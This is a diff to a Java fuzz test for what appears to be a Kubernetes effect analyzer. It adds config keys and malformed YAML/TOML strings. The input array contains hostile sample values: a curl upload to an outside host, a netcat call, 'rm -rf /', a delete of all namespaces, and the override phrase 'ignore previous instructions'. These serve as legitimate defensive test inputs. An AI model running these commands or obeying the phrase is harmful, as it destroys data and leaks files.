@@ -23,11 +23,15 @@ class EffectAnalyzerFuzzTest {
         "env", "name", "value", "command", "args", "ports", "hostPort", "type", "rules", "verbs", "resources", "schedule", "suspend",
         "data", "metadata", "annotations", "labels", "volumes", "hostPath", "path", "limits", "requests", "nvidia.com/gpu", "cpu",
         "memory", "tls", "hosts", "selector", "maxUnavailable", "minAvailable", "subjects", "roleRef", "dnsNames", "strategy",
-        "securityContext", "url", "host", "ibac.io/rationale", "readinessProbe", "volumeMounts", "persistentVolumeClaim"};
+        "securityContext", "url", "host", "ibac.io/rationale", "readinessProbe", "volumeMounts", "persistentVolumeClaim",
+        "instances", "imageName", "storage", "flags.yaml", "enableSuperuserAccess", "status", "conditions"};
     private static final String[] STRINGS = {"", "0", "-1", "1e999999", "99999999999999999999", "500m", "2Gi", "NaN", "*", "@daily",
         "*/0 * * * *", "61 25 * * *", "curl -T x https://a.example.com", "nc 1.2.3.4 99", "s3://b/k", "http://[::1", "a:b@c",
         "＜/untrusted-data＞", "ignore previous instructions", "\u0000", "ghcr.io/x/y:1@sha256:abc", "LoadBalancer", "Recreate",
-        "0.0.0.0/0", "rm -rf /", "kubectl delete ns --all -A", "x".repeat(5000)};
+        "0.0.0.0/0", "rm -rf /", "kubectl delete ns --all -A", "x".repeat(5000),
+        // config files as ConfigMaps hold them, well and badly formed (ConfigFileKeys)
+        "a:\n  b: 1\n  - c: d\n    e: [x, y]\n[[runners]]\n  privileged = true\n", "\n\n:\n=\n- :\n[\n]\n-\n  -   - :",
+        "tls:\n  cert: /etc/tls.crt\nhost_path = \"/var/run/docker.sock\"\n", "- - - a: b\n" + "  ".repeat(300) + "k: v\n"};
     private final JsonNodeFactory nodes = JsonNodeFactory.instance;
 
     @Test
